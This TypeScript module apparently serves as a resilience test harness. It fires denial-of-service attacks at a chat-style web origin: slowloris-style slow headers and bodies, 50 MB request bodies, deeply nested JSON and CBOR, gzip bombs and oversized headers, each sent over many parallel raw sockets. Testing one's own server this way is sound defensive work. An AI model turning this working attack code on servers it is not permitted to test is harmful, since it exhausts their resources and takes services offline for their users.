import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';

/** What somebody does who means no good, against one origin. Returns the status of each answer, 0 for a hang-up. */
export type Attack = (target: Target) => Promise<readonly number[]>;

export interface Target {
  readonly host: string;
  readonly port: number;
  /** An envelope that is in order, to be spoilt. */
  readonly envelope: Readonly<Record<string, unknown>>;
}

const acts = '/api/talk/rooms/square/acts';
const head = (method: string, path: string, { host, port }: Target, ...more: readonly string[]) =>
  [`${method} ${path} HTTP/1.1`, `host: ${host}:${port}`, ...more].join('\r\n');

/** A connection that notes the first status it is told. */
async function dial({ host, port }: Target) {
  const socket = connect(port, host);
  let status = 0;
  socket.on('error', () => {}); // a hang-up is an answer too
  socket.on('data', (chunk: Buffer) => {
    if (status === 0) status = Number(/^HTTP\/1\.1 (\d{3})/.exec(chunk.toString('latin1'))?.[1] ?? 0);
  });
  await Promise.race([once(socket, 'connect'), once(socket, 'close')]);
  return { socket, status: () => status };
}

const isOpen = (socket: Socket) => !socket.destroyed && socket.writable;

/** Sends one request whole and waits for its answer or the end. */
async function post(
  target: Target,
  path: string,
  body: Buffer,
  ...headers: readonly string[]
): Promise<number> {
  const { socket, status } = await dial(target);
  const lines = ['content-type: application/json', `content-length: ${body.length}`, 'connection: close'];
  socket.write(`${head('POST', path, target, ...lines, ...headers)}\r\n\r\n`);
  socket.write(body);
  for (let waited = 0; waited < 30_000 && status() === 0 && isOpen(socket); waited += 50) await sleep(50);
  socket.destroy();
  return status();
}

const many = (times: number, one: () => Promise<number>) => Promise.all(Array.from({ length: times }, one));

/** Says a little every second and never comes to the end. Held against the longest that a server may bear it. */
async function dribble(target: Target, opening: string, drop: string, limit: number): Promise<number> {
  const { socket, status } = await dial(target);
  socket.write(opening);
  const end = performance.now() + limit;
  while (isOpen(socket) && status() === 0 && performance.now() < end) {
    socket.write(drop);
    await sleep(1_000);
  }
  const held = isOpen(socket) && status() === 0;
  socket.destroy();
  return held ? 200 : status();
}

/** The longest that a slow sender may be borne with: Node's own limit of 60 s for headers, looked after each 30 s. */
const BORNE_MS = 95_000;

const json = (target: Target, change: Readonly<Record<string, unknown>>) =>
  Buffer.from(JSON.stringify({ ...target.envelope, ...change }));
const nested = (byte: number, depth: number) => Buffer.alloc(depth, byte).toString('base64url');

export const attacks: Readonly<Record<string, Attack>> = {
  'slow-headers': (target) =>
    many(200, () => dribble(target, `${head('GET', '/api/talk/rooms', target)}\r\n`, 'x-a: b\r\n', BORNE_MS)),

  'slow-bodies': (target) => {
    const lines = ['content-type: application/json', 'content-length: 100000'];
    return many(200, () =>
      dribble(target, `${head('POST', acts, target, ...lines)}\r\n\r\n{`, ' ', BORNE_MS),
    );
  },

  'huge-bodies': async (target) => {
    const body = Buffer.alloc(50_000_000, 0x20);
    return [
      ...(await many(10, () => post(target, acts, body))),
      ...(await many(10, () => post(target, '/api/members/session', body, 'x-teahouse: 1'))),
    ];
  },

  'deep-json': async (target) => {
    const depth = 70_000;
    const arrays = Buffer.from(`{"header":${'['.repeat(depth)}${']'.repeat(depth)}}`);
    const objects = Buffer.from(`${'{"a":'.repeat(25_000)}1${'}'.repeat(25_000)}`);
    return [
      ...(await many(20, () => post(target, acts, arrays))),
      ...(await many(20, () => post(target, acts, objects))),
    ];
  },

  // 0x81 opens an array of one, 0xa1 a map of one, 0xd8 0x20 would be a tag (RFC 8949 3).
  'deep-cbor': async (target) => [
    ...(await many(20, () => post(target, acts, json(target, { header: nested(0x81, 760) })))),
    ...(await many(20, () => post(target, acts, json(target, { header: nested(0xa1, 760) })))),
    ...(await many(20, () => post(target, acts, json(target, { body: nested(0x81, 48_000) })))),
  ],

  'gzip-bombs': (target) => {
    const bomb = gzipSync(Buffer.alloc(100_000_000, 0x20));
    return many(20, () => post(target, acts, bomb.subarray(0, 150_000), 'content-encoding: gzip'));
  },

  'long-headers': (target) =>
    many(50, () => post(target, acts, Buffer.from('{}'), `x-long: ${'a'.repeat(40_000)}`)),
};
